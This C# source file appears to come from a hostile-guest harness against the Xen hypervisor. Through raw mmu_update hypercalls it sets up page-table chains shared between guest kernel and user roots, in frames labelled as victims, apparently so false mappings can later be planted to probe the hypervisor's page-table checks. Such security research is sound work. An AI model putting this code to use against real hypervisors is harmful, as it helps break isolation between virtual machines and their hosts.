using Tierce.Abi;

namespace Tierce.Hostile;

/// <summary>
/// Addresses after the hole with tables of their own, in guest kernel's root and in guest user's: lies are made in them. Made, they map one
/// page at the first address, which holds <see cref="Word"/>.
/// </summary>
internal static unsafe class Region
{
    /// <summary>A slot that the initial root leaves empty.</summary>
    public const int Slot = 300;

    /// <summary>First address.</summary>
    public const ulong Start = 0xffff_0000_0000_0000 | ((ulong)Slot << 39);

    /// <summary>A slot of guest user's root that is empty, in the user half, and the address where guest user meets the same tables.</summary>
    public const int LowSlot = 100;

    /// <inheritdoc cref="LowSlot"/>
    public const ulong Low = (ulong)LowSlot << 39;

    /// <summary>Frames of its tables and its page, and a spare one.</summary>
    public const ulong Level3 = Values.FirstVictim, Level2 = Level3 + 1, Level1 = Level3 + 2, Page = Level3 + 3, Spare = Level3 + 4;

    /// <summary>Flags of an entry that allows everything, and of one that does not allow writing.</summary>
    public const ulong All = 0x67, ReadOnly = 0x25;

    /// <summary>First word of the page.</summary>
    public const ulong Word = 0x6e77_6f5f_7372_7559;

    private const uint FlushAll = 6;

    /// <summary>Frame of guest kernel's root.</summary>
    public static ulong Root => Machine.Info->InitialRootFrame;

    /// <summary>Frame of the table of a level, on the way to the page; at 0 the page's own.</summary>
    public static ulong Table(int level) => level switch
    {
        4 => Root,
        3 => Level3,
        2 => Level2,
        1 => Level1,
        _ => Page,
    };

    /// <summary>Index in that table.</summary>
    public static int Index(int level) => level == 4 ? Slot : 0;

    /// <summary>Makes it anew, and says so.</summary>
    public static void Make()
    {
        for (ulong frame = Level3; frame <= Spare; frame++)
        {
            for (int i = 0; i < 512; i++)
            {
                if (Machine.Frame(frame)[i] != 0)
                {
                    Say(frame, i, 0);
                }
            }
        }

        Machine.Frame(Page)[0] = Word;
        for (int level = 4; level >= 1; level--)
        {
            Link(level, (Table(level - 1) << 12) | All);
        }

        Flush();
    }

    /// <summary>Sets the entry of a level as a guest should: by hypercall. At the top in both roots, in guest user's twice.</summary>
    public static void Link(int level, ulong entry)
    {
        Say(Table(level), Index(level), entry);
        if (level == 4)
        {
            Say(User.Root, Slot, entry);
            Say(User.Root, LowSlot, entry);
        }
    }

    /// <summary>Sets an entry of any table by hypercall.</summary>
    public static void Say(ulong table, int index, ulong entry)
    {
        ulong* request = stackalloc ulong[2];
        request[0] = (table << 12) | ((ulong)index * 8);
        request[1] = entry;
        Xen.Call(Xen.MmuUpdate, (ulong)request, 1, 0, Xen.Self);
    }

    /// <summary>Everything told so far counts from here on.</summary>
    public static void Flush() => Xen.Mmuext(FlushAll, 0);
}
